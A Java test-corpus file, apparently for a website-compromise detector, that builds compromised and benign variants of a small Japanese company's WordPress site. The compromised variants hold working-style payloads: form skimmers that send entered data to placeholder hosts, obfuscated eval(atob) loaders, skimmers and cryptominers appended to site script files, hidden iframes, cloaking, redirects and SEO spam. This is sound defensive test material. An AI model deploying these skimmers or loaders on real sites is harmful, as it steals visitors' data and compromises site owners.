package jp.mamori.checks.web.site;

import static jp.mamori.checks.web.site.Variant.bad;
import static jp.mamori.checks.web.site.Variant.good;

import java.io.ByteArrayOutputStream;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPOutputStream;
import jp.mamori.checks.web.site.TestSite.Reply;

/** The compromised and benign variants of the company website that the patrol is measured on. */
public final class Corpus {
  private Corpus() {}

  public static String b64(String s) {
    return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.UTF_8));
  }

  public static String charCodes(String s) {
    StringBuilder sb = new StringBuilder();
    for (char c : s.toCharArray()) {
      if (sb.length() > 0) {
        sb.append(',');
      }
      sb.append((int) c);
    }
    return sb.toString();
  }

  public static String hex(String s) {
    StringBuilder sb = new StringBuilder();
    for (char c : s.toCharArray()) {
      sb.append(String.format("\\x%02x", (int) c));
    }
    return sb.toString();
  }

  public static byte[] gzip(byte[] data) {
    try {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
        gz.write(data);
      }
      return out.toByteArray();
    } catch (java.io.IOException e) {
      throw new IllegalStateException(e);
    }
  }

  static final String SPAM_LINKS = "<a href=\"https://cheap-pills-online.example/viagra\">buy viagra online</a> "
      + "<a href=\"https://cheap-pills-online.example/cialis\">cialis no prescription</a> "
      + "<a href=\"https://replica-watch.example/\">replica watches</a>";
  static final String JP_SPAM = "<a href=\"https://brand-copy.example/\">ルイヴィトン スーパーコピー 激安通販</a> "
      + "<a href=\"https://brand-copy.example/rolex\">ロレックス コピー N級品</a> "
      + "<a href=\"https://brand-copy.example/chanel\">シャネル 偽物 財布 新作</a>";
  static final String SKIM_IMAGE = "<script>document.addEventListener('submit',function(){var d='';"
      + "var f=document.querySelectorAll('input,select,textarea');for(var i=0;i<f.length;i++){d+=f[i].name+'='+f[i].value+'&';}"
      + "new Image().src='https://img-analytics-cdn.example/p.gif?d='+btoa(d);});</script>";

  public static List<Variant> all() {
    List<Variant> v = new ArrayList<>();
    v.addAll(compromises());
    v.addAll(benign());
    return v;
  }

  public static List<Variant> compromises() {
    List<Variant> v = new ArrayList<>();
    // injected resources from new origins
    v.add(bad("script from a new origin in head", e -> e.site.headExtra =
        "<script src=\"https://cdn-metrics-hub.example/js/analytics.js\"></script>"));
    v.add(bad("script from a new origin in the footer of every page", e -> e.site.footerExtra =
        "<script type=\"text/javascript\" src=\"//jslib-delivery.example/lib.min.js?v=2\"></script>"));
    v.add(bad("script only on the contact page", e -> e.site.pageExtra.put("/contact/",
        "<script src=\"https://form-helper.example/validate.js\"></script>")));
    v.add(bad("script only on a news post", e -> e.site.pageExtra.put("/news/new-machine/",
        "<script src=\"https://news-widget.example/w.js\"></script>")));
    v.add(bad("script loaded by createElement", e -> e.site.footerExtra =
        "<script>(function(){var s=document.createElement('script');s.src='https://tag-loader.example/t.js';"
            + "s.async=true;document.head.appendChild(s);})();</script>"));
    v.add(bad("script written with document.write", e -> e.site.headExtra =
        "<script>document.write('<scr'+'ipt src=\"https://ads-delivery.example/a.js\"></scr'+'ipt>');</script>"));
    v.add(bad("visible iframe from a new origin", e -> e.site.homeExtra =
        "<iframe src=\"https://promo-frame.example/banner.html\" width=\"300\" height=\"250\"></iframe>"));
    v.add(bad("stylesheet from a new origin", e -> e.site.headExtra =
        "<link rel=\"stylesheet\" href=\"https://style-cdn-host.example/main.css\">"));
    v.add(bad("tracking pixel to a new origin", e -> e.site.footerExtra =
        "<img src=\"https://pixel-track.example/collect?id=77\" width=\"1\" height=\"1\" alt=\"\">"));
    v.add(bad("script from an IP address", e -> e.site.headExtra = "<script src=\"http://203.0.113.77/j.js\"></script>"));
    v.add(bad("script from a paste site", e -> e.site.headExtra =
        "<script src=\"https://raw.githubusercontent.com/x/y/main/p.js\"></script>"));
    v.add(bad("script from a throw-away TLD, first run", e -> e.site.headExtra =
        "<script src=\"https://jqueryui-lib.xyz/ui.js\"></script>").fromFirstRun());
    // look-alikes and shorteners
    v.add(bad("typo-squat code.jquery.co", e -> e.site.headExtra = "<script src=\"https://code.jquery.co/jquery-3.7.1.min.js\"></script>"));
    v.add(bad("typo-squat ajax.googleapis.co", e -> e.site.headExtra =
        "<script src=\"https://ajax.googleapis.co/ajax/libs/jquery/3.7.1/jquery.min.js\"></script>"));
    v.add(bad("typo-squat cdnjs.cloudfIare.com", e -> e.site.headExtra =
        "<script src=\"https://cdnjs.cloudfiare.com/ajax/libs/vue/3.4.0/vue.min.js\"></script>"));
    v.add(bad("typo-squat google-anaiytics.com", e -> e.site.headExtra =
        "<script async src=\"https://www.google-anaiytics.com/analytics.js\"></script>"));
    v.add(bad("typo-squat jquery-cdn brand", e -> e.site.footerExtra = "<script src=\"https://jquery-cdn.net/jquery.js\"></script>"));
    v.add(bad("typo-squat googletagmanager look-alike", e -> e.site.headExtra =
        "<script src=\"https://www.googletagmanagers.com/gtm.js?id=GTM-1\"></script>"));
    v.add(bad("typo-squat on the first run", e -> e.site.headExtra =
        "<script src=\"https://code.jquery.co/jquery.min.js\"></script>").fromFirstRun());
    v.add(bad("url shortener script", e -> e.site.headExtra = "<script src=\"https://bit.ly/3xYzAbC\"></script>"));
    v.add(bad("url shortener iframe", e -> e.site.homeExtra = "<iframe src=\"https://tinyurl.com/y7abc\" width=\"400\" height=\"300\"></iframe>"));
    // hidden iframes
    v.add(bad("hidden iframe 0x0", e -> e.site.footerExtra =
        "<iframe src=\"http://exploit-kit-gate.example/in.php\" width=\"0\" height=\"0\" frameborder=\"0\"></iframe>"));
    v.add(bad("hidden iframe 1x1", e -> e.site.homeExtra =
        "<iframe src=\"https://counter-gate.example/\" width=\"1\" height=\"1\"></iframe>"));
    v.add(bad("hidden iframe display:none", e -> e.site.footerExtra =
        "<iframe src=\"https://gate-redirect.example/x\" style=\"display:none\"></iframe>"));
    v.add(bad("hidden iframe visibility:hidden parent", e -> e.site.footerExtra =
        "<div style=\"visibility: hidden; position:absolute\"><iframe src=\"https://tds-gate.example/\"></iframe></div>"));
    v.add(bad("hidden iframe on the first run", e -> e.site.footerExtra =
        "<iframe src=\"http://exploit-kit-gate.example/in.php\" width=\"0\" height=\"0\"></iframe>").fromFirstRun());
    // obfuscated JavaScript
    v.add(bad("eval(atob(...))", e -> e.site.footerExtra = "<script>eval(atob('" + b64(
        "var s=document.createElement('script');s.src='https://evil-loader.example/x.js';document.body.appendChild(s);")
        + "'));</script>"));
    v.add(bad("fromCharCode chain", e -> e.site.footerExtra = "<script>var x=String.fromCharCode(" + charCodes(
        "document.location='https://casino-win.example/'") + ");setTimeout(x,100);</script>"));
    v.add(bad("unescape + document.write", e -> e.site.headExtra = "<script>document.write(unescape('%3C%69%66%72%61%6D%65"
        + "%20%73%72%63%3D%22%68%74%74%70%3A%2F%2F%65%76%69%6C%2E%65%78%61%6D%70%6C%65%22%3E'));</script>"));
    v.add(bad("_0x obfuscator output", e -> e.site.footerExtra = "<script>var _0x4f2a=['\\x68\\x72\\x65\\x66','\\x6c\\x6f'];"
        + "(function(_0x1b2c3d,_0x5e6f7a){var _0x2a3b4c=function(_0x3c4d5e){while(--_0x3c4d5e){_0x1b2c3d['push']"
        + "(_0x1b2c3d['shift']());}};_0x2a3b4c(++_0x5e6f7a);}(_0x4f2a,0x1a3));</script>"));
    v.add(bad("hex-escaped loader", e -> e.site.footerExtra = "<script>var u=\"" + hex(
        "https://malware-drop.example/payload.js?campaign=osaka-2026-autumn") + "\";var s=document[\"" + hex("createElement")
        + "\"](\"script\");s.src=u;</script>"));
    v.add(bad("packer eval(function(p,a,c,k,e,d)", e -> e.site.footerExtra =
        "<script>eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}"
            + "k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp("
            + "'\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1(\\'2\\')',3,3,'document|write|x'.split('|'),0,{}))</script>"));
    v.add(bad("onerror attribute payload", e -> e.site.homeExtra =
        "<img src=\"/x.png\" onerror=\"eval(atob('" + b64("window.location='https://pharma-shop.example/'") + "'))\">"));
    v.add(bad("obfuscated code on the first run", e -> e.site.footerExtra = "<script>eval(atob('" + b64(
        "alert(document.cookie)") + "'));</script>").fromFirstRun());
    // skimmers and forms
    v.add(bad("skimmer with Image beacon on contact", e -> e.site.pageExtra.put("/contact/", SKIM_IMAGE)));
    v.add(bad("skimmer with fetch JSON", e -> e.site.pageExtra.put("/contact/",
        "<script>jQuery('form').on('submit',function(){var data={};jQuery(this).find('input').each(function(){"
            + "data[this.name]=jQuery(this).val();});fetch('https://checkout-secure-api.example/c',{method:'POST',"
            + "body:JSON.stringify(data)});});</script>")));
    v.add(bad("skimmer with sendBeacon", e -> e.site.footerExtra =
        "<script>window.addEventListener('beforeunload',function(){var fd=new FormData(document.forms[0]);"
            + "navigator.sendBeacon('https://beacon-stats.example/b',fd);});</script>"));
    v.add(bad("skimmer with base64 URL", e -> e.site.pageExtra.put("/contact/",
        "<script>var _u=atob('" + b64("https://cdn-cloud-storage.example/save.php") + "');document.querySelector('form')"
            + ".addEventListener('submit',function(){var v=[];document.querySelectorAll('input').forEach(function(i){"
            + "v.push(i.name+':'+i.value)});var x=new XMLHttpRequest();x.open('POST',_u);x.send(btoa(v.join('|')));});</script>")));
    v.add(bad("skimmer on the first run", e -> e.site.pageExtra.put("/contact/", SKIM_IMAGE)).fromFirstRun());
    v.add(bad("contact form action moved off-site", e -> e.site.contactAction = "https://form-relay.example/submit.php"));
    v.add(bad("card fields posting off-site", e -> {
      e.site.contactAction = "https://secure-payments-jp.example/pay";
      e.site.contactFields = "<input name=\"card_number\" autocomplete=\"cc-number\"><input name=\"cvv\">";
    }));
    v.add(bad("fake login form off-site, first run", e -> e.site.pageExtra.put("/about/",
        "<form action=\"https://account-verify.example/login\" method=\"post\"><input name=\"user\">"
            + "<input type=\"password\" name=\"pass\"></form>")).fromFirstRun());
    // cryptominers
    v.add(bad("coinhive script", e -> e.site.footerExtra = "<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>"
        + "<script>var miner=new CoinHive.Anonymous('SITE_KEY');miner.start();</script>"));
    v.add(bad("CoinImp inline", e -> e.site.footerExtra = "<script src=\"https://www.hostingcloud.racing/Xfbc.js\"></script>"
        + "<script>var _client = new Client.Anonymous('8a2c7f', {throttle: 0, c: 'w'});_client.start();</script>"));
    v.add(bad("cryptoloot self-hosted", e -> e.site.footerExtra = "<script src=\"/wp-content/uploads/crypta.js\"></script>"
        + "<script>var miner=new CRLT.Anonymous('abc', {threads:4, autoThreads:false, throttle:0.2});miner.start();</script>"));
    v.add(bad("miner on the first run", e -> e.site.footerExtra =
        "<script src=\"https://authedmine.com/lib/authedmine.min.js\"></script>").fromFirstRun());
    // SEO spam
    v.add(bad("hidden pharma links display:none", e -> e.site.footerExtra = "<div style=\"display:none\">" + SPAM_LINKS + "</div>"));
    v.add(bad("off-screen casino links", e -> e.site.footerExtra = "<div style=\"position:absolute; left:-9999px; top:-9999px\">"
        + "<a href=\"https://casino-online.example/\">online casino bonus</a> <a href=\"https://slot-gacor.example/\">slot gacor</a>"
        + "<a href=\"https://poker-room.example/\">poker</a></div>"));
    v.add(bad("same colour as background", e -> e.site.homeExtra = "<p style=\"color:#ffffff;background-color:#ffffff\">"
        + SPAM_LINKS + "</p>"));
    v.add(bad("tiny font spam", e -> e.site.footerExtra = "<span style=\"font-size:1px\">" + SPAM_LINKS + "</span>"));
    v.add(bad("spam hidden by a CSS class", e -> {
      e.site.headExtra = "<style>.wp-extra-block{position:absolute;left:-5000px;}</style>";
      e.site.footerExtra = "<div class=\"wp-extra-block\">" + JP_SPAM + "</div>";
    }));
    v.add(bad("japanese keyword hack visible", e -> e.site.homeExtra = "<section><h2>人気ブランド スーパーコピー 激安通販専門店</h2>"
        + "<p>ルイヴィトン コピー 財布、ロレックス スーパーコピー 時計、シャネル 偽物 バッグ N級品 送料無料 最安値</p>" + JP_SPAM
        + "</section>"));
    v.add(bad("japanese keyword hack title", e -> {
      e.site.homeTitle = "ブランドコピー 激安 ルイヴィトン スーパーコピー 通販";
      e.site.homeExtra = "<p>ロレックス コピー N級品 専門店</p>";
    }));
    v.add(bad("link farm in footer", e -> {
      StringBuilder sb = new StringBuilder("<div class=\"partners\">");
      for (int i = 0; i < 40; i++) {
        sb.append("<a href=\"https://site-").append(i).append(".linkfarm").append(i).append(".example/\">partner ").append(i)
            .append("</a> ");
      }
      e.site.footerExtra = sb.append("</div>").toString();
    }));
    v.add(bad("spam link with pharma anchor", e -> e.site.footerExtra =
        "<p><a href=\"https://rx-pharmacy-store.example/\">バイアグラ 通販</a></p>"));
    v.add(bad("hidden japanese spam first run", e -> e.site.footerExtra = "<div style=\"display:none\">" + JP_SPAM + "</div>")
        .fromFirstRun());
    // cloaking
    v.add(bad("cloaking: spam links for Googlebot", e -> e.site.override = r -> {
      if (r.isBot() && r.path().equals("/")) {
        CompanySite s = new CompanySite();
        s.footerExtra = "<div>" + JP_SPAM + "</div>";
        return s.apply(r);
      }
      return null;
    }));
    v.add(bad("cloaking: different page for Googlebot", e -> e.site.override = r -> {
      if (r.isBot() && r.path().equals("/")) {
        return Reply.html("<html><head><title>Best online shop</title></head><body><h1>Cheap brand bags</h1>"
            + "<p>" + "Discount designer bags shipped worldwide fast from our warehouse with great service. ".repeat(30)
            + "</p></body></html>");
      }
      return null;
    }));
    v.add(bad("cloaking: Googlebot redirected", e -> e.site.override = r -> r.isBot()
        ? Reply.redirect(302, "https://spam-landing.example/") : null));
    // redirects
    v.add(bad("server redirect off-site", e -> e.site.override = r -> r.path().equals("/")
        ? Reply.redirect(302, "https://scam-prize.example/win") : null));
    v.add(bad("meta refresh off-site", e -> e.site.headExtra =
        "<meta http-equiv=\"refresh\" content=\"0; url=https://fake-shop.example/\">"));
    v.add(bad("script location off-site", e -> e.site.headExtra =
        "<script>window.location.href = \"https://malicious-redirect.example/?r=1\";</script>"));
    v.add(bad("redirect only for search-engine referrers (server)", e -> e.site.override = r -> r.referer() != null
        && r.referer().contains("google.") ? Reply.redirect(302, "https://pharma-landing.example/") : null));
    v.add(bad("redirect only for search-engine referrers (script)", e -> e.site.headExtra =
        "<script>var ref=document.referrer;if(ref.indexOf('google')>-1||ref.indexOf('yahoo')>-1){"
            + "window.location.replace('https://casino-affiliate.example/lp');}</script>"));
    v.add(bad("redirect on a sub-page", e -> e.site.override = r -> r.path().equals("/products/")
        ? Reply.redirect(301, "https://counterfeit-parts.example/") : null));
    v.add(bad("redirect chain changed", e -> e.site.override = r -> r.path().equals("/")
        ? Reply.redirect(302, "/lp/index.php?id=7") : r.path().equals("/lp/index.php")
        ? Reply.html("<html><body><p>特別キャンペーン</p><a href=\"/contact/\">x</a></body></html>") : null));
    v.add(bad("redirect on first run", e -> e.site.override = r -> r.path().equals("/")
        ? Reply.redirect(302, "https://scam-prize.example/win") : null).fromFirstRun());
    // defacement
    v.add(bad("hacked by page", e -> e.site.homeBody = "<html><head><title>Hacked By Sh4d0w Team</title></head>"
        + "<body style=\"background:black;color:lime\"><center><h1>Hacked By Sh4d0w Team</h1><p>Your security is down!"
        + "</p><p>Greetz: all muslim hackers</p></center></body></html>"));
    v.add(bad("leetspeak defacement in body", e -> e.site.homeExtra = "<div><h1>H4ck3d by x0r_gh0st</h1></div>"));
    v.add(bad("japanese defacement phrase", e -> e.site.homeExtra = "<h2>このサイトはハッキングされました</h2>"));
    v.add(bad("defacement on the first run", e -> e.site.homeExtra = "<h1>hacked by anonymous</h1>").fromFirstRun());
    v.add(bad("home replaced by gambling page in Indonesian", e -> e.site.homeBody = "<html lang=\"id\"><head><title>"
        + "Situs Judi Online Terpercaya</title></head><body><div class=\"container\"><h1>Daftar Sekarang</h1><p>"
        + "Situs judi online terpercaya dengan bonus besar setiap hari untuk semua member baru dan lama. ".repeat(15)
        + "</p><a href=\"https://judi-bola.example/daftar\">Daftar</a></div></body></html>"));
    v.add(bad("home replaced wholesale (Japanese)", e -> e.site.homeBody = "<html lang=\"ja\"><head><title>お得な情報</title>"
        + "</head><body><div id=\"wrap\"><table><tr><td><font size=\"5\">今だけ限定のお得なキャンペーン実施中！</font></td></tr>"
        + "<tr><td>" + "新規会員登録で今すぐポイントがもらえるチャンスです。詳しくはこちらをご覧ください。".repeat(10)
        + "</td></tr></table></div></body></html>"));
    v.add(bad("language switched to English", e -> {
      e.site.lang = "en";
      e.site.homeTitle = "Yamada Seiko";
      e.site.intro = "We are the best. ".repeat(5);
      e.site.homeBody = "<html lang=\"en\"><head><title>Welcome</title></head><body><header class=\"site-header\">"
          + "<nav><a href=\"/about/\">About</a></nav></header><main><h1>Welcome to our store</h1><p>"
          + "Premium products and fast delivery for every customer in every country around the world today. ".repeat(12)
          + "</p></main></body></html>";
    }));
    // hygiene that is serious
    v.add(bad("unsupported WordPress major", e -> e.site.wpVersion = "4.9.8").fromFirstRun());
    v.add(bad("IoC domain on the list", e -> e.site.footerExtra =
        "<a href=\"https://known-bad-c2.example/panel\">サポート</a>"));
    v.add(bad("DNS NS records changed", e -> e.resolver.record("yamada-seiko.test", "NS", "ns1.hijack-dns.example.")));
    v.add(bad("DNS A record moved", e -> e.resolver.record(Env.HOST, "A", "198.51.100.66")));
    // infected script files of the site itself
    v.add(bad("theme script with eval(atob) appended", e -> e.site.files.merge("/wp-content/themes/yamada/js/navigation.js", "\n;eval(atob('"
        + b64("var s=document.createElement('script');s.src='https://evil-loader.example/l.js';document.head.appendChild(s);")
        + "'));", String::concat)));
    v.add(bad("plugin script with a skimmer appended", e -> e.site.files.merge("/wp-content/plugins/contact-form-7/includes/js/index.js", "\n;document.addEventListener("
        + "'submit',function(ev){var f=new FormData(ev.target);navigator.sendBeacon('https://cdn-jsdelivery.example/collect',f);});",
        String::concat)));
    v.add(bad("jQuery file with a miner appended", e -> e.site.files.merge("/wp-includes/js/jquery/jquery.min.js", "\n;var _m=new CoinHive.Anonymous("
        + "'k3y',{throttle:0.3});_m.start();", String::concat)));
    v.add(bad("theme script with _0x obfuscation appended", e -> e.site.files.merge("/wp-content/themes/yamada/js/navigation.js", "\nvar _0xa1b2=['push',"
        + "'shift'];(function(_0xc3d4e5,_0xf6a7b8){var _0x9c0d1e=function(_0x2f3a4b){while(--_0x2f3a4b){_0xc3d4e5['push']"
        + "(_0xc3d4e5['shift']());}};_0x9c0d1e(++_0xf6a7b8);}(_0xa1b2,0x1f4));", String::concat)));
    v.add(bad("skimmer in a script file, first run", e -> e.site.files.merge("/wp-content/plugins/contact-form-7/includes/js/index.js", "\n;document.addEventListener("
        + "'submit',function(ev){var f=new FormData(ev.target);navigator.sendBeacon('https://cdn-jsdelivery.example/c',f);});",
        String::concat)).fromFirstRun());
    // more injections
    v.add(bad("hidden iframe written by document.write", e -> e.site.footerExtra = "<script>document.write('<iframe "
        + "src=\"https://traffic-gate.example/go\" width=\"1\" height=\"1\" style=\"visibility:hidden\"></iframe>');</script>"));
    v.add(bad("encoded redirect with atob", e -> e.site.footerExtra = "<script>setTimeout(function(){window.location.href=atob('"
        + b64("https://prize-winner.example/") + "');},3000);</script>"));
    v.add(bad("title-only defacement", e -> e.site.homeBody = "<html><head><title>HACKED !!!</title></head><body "
        + "style=\"background:#000\"><img src=\"/x.jpg\"></body></html>"));
    v.add(bad("home replaced by Chinese gambling page", e -> e.site.homeBody = "<html><head><title>澳门线上娱乐城</title></head>"
        + "<body><div class=\"main\"><h1>欢迎光临</h1><p>" + "最新优惠活动，注册即送彩金，每日返水，信誉第一，安全稳定，提款快速。".repeat(12)
        + "</p></div></body></html>"));
    v.add(bad("outdated WordPress only from ?ver=", e -> {
      e.site.showGenerator = false;
      e.site.wpVersion = "4.9.8";
    }).fromFirstRun());
    v.add(bad("spam in a zero-height block", e -> e.site.footerExtra = "<div style=\"height:0;overflow:hidden\">" + JP_SPAM
        + "</div>"));
    v.add(bad("spam with text-indent", e -> e.site.footerExtra = "<p style=\"text-indent:-9999px\">" + SPAM_LINKS + "</p>"));
    v.add(bad("spam links with opacity:0", e -> e.site.homeExtra = "<div style=\"opacity:0\">" + SPAM_LINKS + "</div>"));
    v.add(bad("hidden link block without spam words", e -> e.site.footerExtra = "<div style=\"display:none\">"
        + "<a href=\"https://a-seo.example/\">a</a><a href=\"https://b-seo.example/\">b</a><a href=\"https://c-seo.example/\">c</a>"
        + "<a href=\"https://d-seo.example/\">d</a></div>"));
    v.add(bad("keyword-hack pages linked from the home page", e -> {
      e.site.homeExtra = "<ul><li><a href=\"/brand/louis-vuitton/\">ルイヴィトン 財布</a></li></ul>";
      e.site.extraPages.put("/brand/louis-vuitton/", "<h2>ルイヴィトン スーパーコピー 激安通販</h2><p>ヴィトン コピー 財布 N級品 "
          + "送料無料 最安値 専門店 ロレックス コピー</p>");
    }));
    v.add(bad("jQuery ajax skimmer", e -> e.site.pageExtra.put("/contact/", "<script>jQuery(function($){$('form').on('submit',"
        + "function(){$.ajax({type:'POST',url:'https://api-payment-check.example/v1',data:$(this).serialize()});});});</script>")));
    v.add(bad("WebSocket skimmer", e -> e.site.pageExtra.put("/contact/", "<script>var ws=new WebSocket('wss://socket-relay.example/s');"
        + "document.querySelector('form').addEventListener('submit',function(){var d={};document.querySelectorAll('input')"
        + ".forEach(function(i){d[i.name]=i.value});ws.send(JSON.stringify(d));});</script>")));
    v.add(bad("redirect for smartphones only", e -> e.site.override = r -> r.userAgent() != null && r.userAgent().contains("iPhone")
        ? Reply.redirect(302, "https://mobile-prize.example/") : null));
    v.add(bad("script with integrity from a new origin", e -> e.site.headExtra = "<script src=\"https://cdn.static-files.example/"
        + "lib.js\" integrity=\"sha384-abc\" crossorigin=\"anonymous\"></script>"));
    v.add(bad("base href hijack", e -> e.site.headExtra = "<base href=\"https://assets-mirror.example/\">"));
    v.add(bad("hidden object element", e -> e.site.footerExtra = "<object data=\"https://flash-gate.example/x.swf\" width=\"1\" "
        + "height=\"1\"></object>"));
    v.add(bad("stylesheet imported from a new origin", e -> e.site.headExtra = "<style>@import url('https://css-host.example/t.css');"
        + "</style>"));
    v.add(bad("typo-squat with capital I", e -> e.site.headExtra = "<script src=\"https://www.googIe-analytics.com/ga.js\"></script>"));
    // availability (confirmed by the second run)
    v.add(bad("site answers 500", e -> e.site.override = r -> Reply.status(500)).runs(2));
    v.add(bad("site answers 503 maintenance", e -> e.site.override = r -> Reply.status(503)).runs(2));
    v.add(bad("site answers 404 on home", e -> e.site.override = r -> r.path().equals("/") ? Reply.status(404) : null).runs(2));
    v.add(bad("connection refused", e -> {
      try (ServerSocket s = new ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
        e.url = java.net.URI.create("http://" + Env.HOST + ":" + s.getLocalPort() + "/");
      } catch (java.io.IOException ex) {
        throw new IllegalStateException(ex);
      }
    }).runs(2));
    v.add(bad("site times out", e -> e.site.override = r -> {
      try {
        Thread.sleep(4000);
      } catch (InterruptedException ex) {
        Thread.currentThread().interrupt();
      }
      return Reply.status(200);
    }).runs(2));
    return v;
  }

  public static List<Variant> benign() {
    List<Variant> v = new ArrayList<>();
    v.add(good("nothing changed (nonces, banner, timestamp differ)", e -> { }));
    v.add(good("banner set rotated", e -> e.site.banners = 9));
    v.add(good("cache-busting ?ver= changes", e -> {
      e.site.themeVersion = "1.4.3";
      e.site.pluginVersion = "5.9.4";
    }));
    v.add(good("new news post", e -> {
      e.site.news.add(0, new String[] {"2026.11.20", "年末年始休業のお知らせ", "/news/new-year-holiday/"});
    }));
    v.add(good("several new news posts replace old ones", e -> {
      e.site.news.clear();
      e.site.news.add(new String[] {"2026.11.20", "年末年始休業のお知らせ", "/news/new-year-holiday/"});
      e.site.news.add(new String[] {"2026.11.10", "ISO9001認証を更新しました", "/news/iso/"});
      e.site.news.add(new String[] {"2026.11.01", "展示会出展のご案内", "/news/expo/"});
    }));
    v.add(good("new page added to the menu", e -> {
      e.site.menu.add(5, new String[] {"設備紹介", "/equipment/"});
      e.site.extraPages.put("/equipment/", "<p>五軸マシニングセンタ 2台、CNC旋盤 5台を保有しています。</p>"
          + "<img src=\"/wp-content/uploads/machine.jpg\" alt=\"設備\">");
    }));
    v.add(good("copyright year", e -> e.site.copyrightYear = 2027));
    v.add(good("price edits", e -> {
      e.site.prices.put("精密シャフト SH-10", "1,350円");
      e.site.prices.put("アルミブラケット AB-3", "900円");
    }));
    v.add(good("wording edit of the introduction", e -> e.site.intro = "山田精工株式会社は、東大阪市の精密部品加工メーカーです。"
        + "創業から半世紀、自動車部品・医療機器部品・産業機械部品を丁寧に製造しています。試作・小ロットも歓迎です。"));
    v.add(good("menu reorder", e -> java.util.Collections.reverse(e.site.menu.subList(1, e.site.menu.size()))));
    v.add(good("new same-origin images", e -> e.site.homeExtra = "<section class=\"gallery\">"
        + "<img src=\"/wp-content/uploads/2026/11/work1.jpg\"><img src=\"/wp-content/uploads/2026/11/work2.jpg\">"
        + "<img src=\"/wp-content/uploads/2026/11/work3.jpg\"></section>"));
    v.add(good("accessibility-hidden text", e -> e.site.homeExtra = "<span class=\"sr-only\">新しいウィンドウで開きます</span>"
        + "<span class=\"visually-hidden\">電話番号</span><i class=\"icon-phone\" aria-hidden=\"true\">☎</i>"
        + "<div aria-hidden=\"true\" style=\"display:none\">装飾</div>"));
    v.add(good("YouTube embed", e -> e.site.homeExtra = "<section><h2>会社紹介動画</h2><iframe width=\"560\" height=\"315\" "
        + "src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" title=\"YouTube video player\" frameborder=\"0\" "
        + "allowfullscreen></iframe></section>"));
    v.add(good("YouTube nocookie embed and lazy player script", e -> e.site.homeExtra =
        "<iframe src=\"https://www.youtube-nocookie.com/embed/abc123\" width=\"560\" height=\"315\"></iframe>"
            + "<script src=\"https://www.youtube.com/iframe_api\"></script>"));
    v.add(good("Vimeo embed", e -> e.site.homeExtra = "<iframe src=\"https://player.vimeo.com/video/76979871\" width=\"640\" "
        + "height=\"360\" frameborder=\"0\" allow=\"autoplay; fullscreen\"></iframe>"
        + "<script src=\"https://player.vimeo.com/api/player.js\"></script>"));
    v.add(good("CMS minor upgrade", e -> e.site.wpVersion = "6.8.2"));
    v.add(good("new marketing section linking within the site", e -> e.site.homeExtra = "<section class=\"campaign\">"
        + "<h2>秋の試作キャンペーン</h2><p>11月末までのご注文で試作費用を10%割引いたします。</p>"
        + "<a href=\"/products/\">製品を見る</a> <a href=\"/contact/\">今すぐ相談する</a> <a href=\"/news/\">詳しくはこちら</a>"
        + "</section>"));
    v.add(good("Google Maps embed on access page", e -> e.site.pageExtra.put("/access/",
        "<iframe src=\"https://www.google.com/maps/embed?pb=!1m18!1m12\" width=\"600\" height=\"450\" style=\"border:0;\" "
            + "allowfullscreen loading=\"lazy\"></iframe>")));
    v.add(good("another Google Fonts family", e -> e.site.headExtra =
        "<link rel=\"stylesheet\" href=\"https://fonts.googleapis.com/css2?family=M+PLUS+Rounded+1c&display=swap\">"));
    v.add(good("Facebook pixel with noscript image", e -> e.site.headExtra = "<script>!function(f,b,e,v,n,t,s)"
        + "{if(f.fbq)return;n=f.fbq=function(){n.callMethod?n.callMethod.apply(n,arguments):n.queue.push(arguments)};"
        + "t=b.createElement(e);t.async=!0;t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}"
        + "(window,document,'script','https://connect.facebook.net/en_US/fbevents.js');fbq('init','1234567890');</script>"
        + "<noscript><img height=\"1\" width=\"1\" style=\"display:none\" "
        + "src=\"https://www.facebook.com/tr?id=1234567890&ev=PageView&noscript=1\"></noscript>"));
    v.add(good("cookie consent banner script", e -> e.site.footerExtra = "<div id=\"cookie-notice\" style=\"display:none\">"
        + "当サイトではクッキーを使用しています。<button id=\"cookie-ok\">同意する</button></div><script>(function(){"
        + "if(document.cookie.indexOf('consent=1')<0){document.getElementById('cookie-notice').style.display='block';}"
        + "document.getElementById('cookie-ok').addEventListener('click',function(){document.cookie='consent=1;path=/;"
        + "max-age=31536000';document.getElementById('cookie-notice').style.display='none';});})();</script>"));
    v.add(good("contact form validation script posting to the site", e -> e.site.pageExtra.put("/contact/",
        "<script>document.querySelector('form').addEventListener('submit',function(ev){var v=document.querySelector("
            + "'input[name=your-email]').value;if(v.indexOf('@')<0){ev.preventDefault();alert('メールアドレスをご確認ください');"
            + "return;}fetch('/wp-admin/admin-ajax.php',{method:'POST',body:new FormData(this)});});</script>")));
    v.add(good("JSON-LD structured data", e -> e.site.headExtra = "<script type=\"application/ld+json\">{\"@context\":"
        + "\"https://schema.org\",\"@type\":\"Organization\",\"name\":\"山田精工株式会社\",\"url\":\"https://www.yamada-seiko.test/\","
        + "\"sameAs\":[\"https://www.facebook.com/yamadaseiko\"]}</script>"));
    v.add(good("hidden dropdown menu with internal links", e -> e.site.footerExtra = "<ul class=\"dropdown\" style=\"display:none\">"
        + "<li><a href=\"/news/\">お知らせ</a></li><li><a href=\"/recruit/\">採用</a></li><li><a href=\"/about/\">会社概要</a></li></ul>"));
    v.add(good("hidden modal with job text", e -> e.site.homeExtra = "<div class=\"modal\" id=\"job-modal\" style=\"display:none\">"
        + "<h3>募集要項</h3><p>機械オペレーター 月給25万円〜 賞与年2回 交通費支給</p><a href=\"/recruit/\">詳しく見る</a></div>"));
    v.add(good("section order changed", e -> {
      String tmp = e.site.intro;
      e.site.homeExtra = "<section class=\"intro2\"><p>" + tmp + "</p></section>";
      e.site.intro = "確かな技術と誠実な対応で、お客様のものづくりを支えます。";
    }));
    v.add(good("phone and address changed", e -> {
